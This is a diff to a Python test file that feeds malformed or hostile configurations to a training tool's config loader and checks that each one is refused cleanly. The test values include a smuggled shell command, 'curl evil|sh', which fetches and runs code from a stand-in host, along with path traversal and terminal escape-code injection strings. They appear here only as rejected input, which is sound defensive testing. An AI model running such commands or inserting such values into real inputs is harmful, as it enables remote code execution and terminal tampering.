@@ -151,9 +151,9 @@ CHANGES: dict[str, tuple[Callable[[dict[str, Any]], Any], str]] = {
     "no options": (lambda hyper: hyper.pop("options"), "describes no network.*options"),
     "a function for a network": (lambda hyper: hyper.update(architecture="os.mkdir"), "no architecture 'os.mkdir'"),
     "a function for a scheme": (
-        lambda hyper: hyper["options"].update(scheme={"name": "os.mkdir"}), "no scheme 'os.mkdir'",
+        lambda hyper: hyper["config"].update(scheme={"name": "os.mkdir"}), "no scheme 'os.mkdir'",
     ),
-    "words for numbers": (lambda hyper: hyper["data"].update(num_classes="two"), "describes no network"),
+    "words for numbers": (lambda hyper: hyper["data"].update(num_classes="two"), "num_classes expected a whole"),
     "a list for a config": (lambda hyper: hyper.update(config=[1]), "expected the config of a run, got list"),
     "no data": (lambda hyper: hyper["config"].pop("data"), "data: expected a mapping"),
     "data of no registry": (lambda hyper: hyper["config"]["data"].update(name="../../x"), "no data set '../../x'"),
@@ -163,6 +163,14 @@ CHANGES: dict[str, tuple[Callable[[dict[str, Any]], Any], str]] = {
     "a name that is a list": (lambda hyper: hyper["config"]["architecture"].update(name=["os"]), "no architecture"),
     "a scheme with a dot": (lambda hyper: hyper["config"].update(scheme={"name": "schemes.errors"}), "no scheme"),
     "a seed": (lambda hyper: hyper["config"].update(seed="0"), "seed: expected a whole number"),
+    "shell text for a module": (
+        lambda hyper: hyper["config"].update(imports=["x\x1b]0;title\x07\x1b[2J; curl evil|sh"]),
+        r"imports: expected names of modules, such as my_parts, got \['x\\x1b",
+    ),
+    "escape codes in a key": (
+        lambda hyper: hyper["config"]["data"].update({"\x1b[2J\x07": 1}), r"takes no '\\x1b\[2J",
+    ),
+    "escape codes in a value": (lambda hyper: hyper.update(architecture="\x1b[2J\x07"), "no architecture"),
 }  # fmt: skip
 
 
@@ -173,6 +181,7 @@ def test_a_foreign_config_names_nothing_beyond_the_registries(what: str, run: Pa
     before = sorted(Path("run").iterdir())
     told = refused(["eval", "run"], capsys)
     assert re.search(message, told), told
+    assert told.replace("\n", "").isprintable()
     refused(["figure", "trajectories", "run"], capsys)
     assert sorted(Path("run").iterdir()) == before
     assert not canary.exists()
